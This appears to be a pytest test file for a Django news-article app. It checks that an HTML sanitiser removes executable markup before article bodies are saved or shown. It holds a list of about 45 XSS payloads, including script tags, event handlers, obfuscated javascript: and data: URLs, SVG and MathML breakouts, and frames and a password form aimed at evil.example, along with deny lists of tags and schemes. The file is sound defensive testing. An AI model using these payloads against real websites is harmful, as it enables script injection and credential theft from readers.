"""Hostile HTML in an article's body: nothing executable is stored or shown to readers."""

import re
from html.parser import HTMLParser

import pytest

from articles.forms import ArticleAdminForm
from articles.markup import sanitize_html
from articles.models import Article
from tests.factories import ArticleFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "script": "<p>Before</p><script>alert(document.cookie)</script><p>After</p>",
    "script-uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "event-on-allowed-tag": '<p onmouseover="alert(1)">Hover</p>',
    "link-onclick": '<a href="https://example.org" onclick="alert(1)">Link</a>',
    "javascript-link": '<a href="javascript:alert(1)">Click</a>',
    "javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">Click</a>',
    "javascript-leading-space": '<a href=" javascript:alert(1)">Click</a>',
    "javascript-tab": '<a href="java\tscript:alert(1)">Click</a>',
    "javascript-entity-colon": '<a href="javascript&colon;alert(1)">Click</a>',
    "javascript-numeric-entities": '<a href="&#106;&#97;vascript:alert(1)">Click</a>',
    "javascript-hex-entity-tab": '<a href="jav&#x09;ascript:alert(1)">Click</a>',
    "vbscript-link": '<a href="vbscript:msgbox(1)">Click</a>',
    "javascript-img": "<IMG SRC=JaVaScRiPt:alert(1)>",
    "data-html-link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data-html-inline": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data-image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">',
    "srcset": '<img src="/a.png" srcset="javascript:alert(1) 1x" alt="a">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
    "<text>x</text></a></svg>",
    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "math-style-breakout": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "style-tag": "<style>body { background: url(javascript:alert(1)) }</style>",
    "style-attribute": '<p style="background:url(javascript:alert(1))">Styled</p>',
    "form": '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "base": '<base href="javascript:alert(1)//">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "video-source": "<video><source onerror=alert(1)></video>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "nested-script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed-tags": "<p><a href=x><strong>Unclosed",
    "unclosed-attribute": '<p><a href="x onmouseover=alert(1) >Text</p>',
    "broken-img": "<img src=x onerror=alert(1)//",
    "comment": "<!-- <script>alert(1)</script> --><p>Text</p>",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]--><p>Text</p>",
    "comment-breakout": "<!--><img src=x onerror=alert(1)>-->",
    "target-blank": '<a href="https://example.org" target="_blank" rel="opener">x</a>',
}

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "object", "embed", "svg", "math", "form",
    "input", "button", "textarea", "select", "base", "meta", "link", "template",
    "noscript", "details", "video", "audio", "source",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "xlink:href", "data"}
FORBIDDEN_SCHEMES = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)


class Markup(HTMLParser):
    """Collects what a browser would see as elements, attributes and comments."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.comments = [], [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.comments.append(data)


def assert_inert(html):
    """Nothing in ``html`` runs script, loads a frame or styles the page."""
    markup = Markup(html)
    assert not FORBIDDEN_TAGS.intersection(markup.tags), markup.tags
    for tag, name, value in markup.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name not in {"style", "srcdoc", "target"}, (tag, name)
        if name in URL_ATTRIBUTES:
            # Browsers ignore whitespace and control characters inside a scheme.
            url = re.sub(r"[\x00-\x20]", "", value)
            assert not FORBIDDEN_SCHEMES.match(url), (tag, name, value)
    assert markup.comments == []
    assert "<script" not in html.lower()


def body_of(response):
    """The article body as the reader's page shows it."""
    return response.text.split('<div class="article__body prose">', 1)[1].split("</div>", 1)[0]


def form_data(body):
    return {
        "title": "A note",
        "slug": "a-note",
        "lead": "A short lead.",
        "body": body,
        "status": Article.Status.PUBLISHED,
        "published_at": "2024-05-19 10:00:00",
    }


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
class TestHostileMarkup:
    def test_nothing_executable_is_stored_by_save(self, html):
        article = ArticleFactory(body=html)

        article.refresh_from_db()
        assert_inert(article.body)

    def test_nothing_executable_is_stored_from_the_admin_form(self, html):
        form = ArticleAdminForm(data=form_data(html))

        assert form.is_valid(), form.errors
        form.save()

        assert_inert(Article.objects.get(slug="a-note").body)

    def test_nothing_executable_reaches_the_reader(self, client, html):
        article = ArticleFactory(body=html)

        response = client.get(article.get_absolute_url())

        assert response.status_code == 200
        assert_inert(body_of(response))


# Truncated markup that a browser drops or shows as text even unsanitised.
HARMLESS_UNCLEANED = {"unclosed-tags", "unclosed-attribute", "broken-img"}


@pytest.mark.parametrize(
    "html",
    [html for name, html in HOSTILE.items() if name not in HARMLESS_UNCLEANED],
    ids=[name for name in HOSTILE if name not in HARMLESS_UNCLEANED],
)
def test_check_recognises_the_raw_vector(html):
    """The check above would fail without the sanitiser."""
    with pytest.raises(AssertionError):
        assert_inert(html)


def test_body_stored_without_save_is_cleaned_on_next_save():
    article = ArticleFactory()
    Article.objects.filter(pk=article.pk).update(body="<script>alert(1)</script><p>Kept</p>")
    article.refresh_from_db()

    article.save()

    article.refresh_from_db()
    assert article.body == "<p>Kept</p>"


def test_text_of_removed_markup_stays_escaped():
    assert sanitize_html("<scr<script>ipt>alert(1)</script>") == "ipt&gt;alert(1)"


EDITOR_OUTPUT = (
    "<h2>Context</h2>"
    "<p>The talks <strong>lasted</strong> two <em>days</em>.</p>"
    "<h3>Trade</h3>"
    "<h4>Energy</h4>"
    '<p>See <a href="https://example.org/report">the report</a>'
    ' and <a href="mailto:press@example.org">the press office</a>.</p>'
    "<ul><li>First point</li><li>Second point</li></ul>"
    "<ol><li>One</li><li>Two</li></ol>"
    "<blockquote><p>A quotation.</p></blockquote>"
    '<figure class="image"><img src="/media/uploads/2024/05/chart.png" alt="A chart of exports"'
    ' width="640" height="480"><figcaption>Exports in 2023</figcaption></figure>'
    '<figure class="table"><table><thead><tr><th>Year</th><th>Value</th></tr></thead>'
    "<tbody><tr><td>2023</td><td>12</td></tr></tbody></table></figure>"
)

ALLOWED_FORMATTING = [
    "<h2>Context</h2>",
    "<strong>lasted</strong>",
    "<em>days</em>",
    "<h3>Trade</h3>",
    "<h4>Energy</h4>",
    '<a href="https://example.org/report" rel="noopener noreferrer">the report</a>',
    '<a href="mailto:press@example.org" rel="noopener noreferrer">the press office</a>',
    "<ul><li>First point</li><li>Second point</li></ul>",
    "<ol><li>One</li><li>Two</li></ol>",
    "<blockquote><p>A quotation.</p></blockquote>",
    '<figure><img src="/media/uploads/2024/05/chart.png" alt="A chart of exports"'
    ' width="640" height="480"><figcaption>Exports in 2023</figcaption></figure>',
    "<table><thead><tr><th>Year</th><th>Value</th></tr></thead>"
    "<tbody><tr><td>2023</td><td>12</td></tr></tbody></table>",
]


@pytest.mark.parametrize("fragment", ALLOWED_FORMATTING)
def test_allowed_formatting_is_stored(fragment):
    article = ArticleFactory(body=EDITOR_OUTPUT)

    article.refresh_from_db()
    assert fragment in article.body


@pytest.mark.parametrize("fragment", ALLOWED_FORMATTING)
def test_allowed_formatting_reaches_the_reader(client, fragment):
    article = ArticleFactory(body=EDITOR_OUTPUT)

    response = client.get(article.get_absolute_url())

    assert fragment in body_of(response)


def test_cleaning_is_stable():
    once = sanitize_html(EDITOR_OUTPUT)

    assert sanitize_html(once) == once
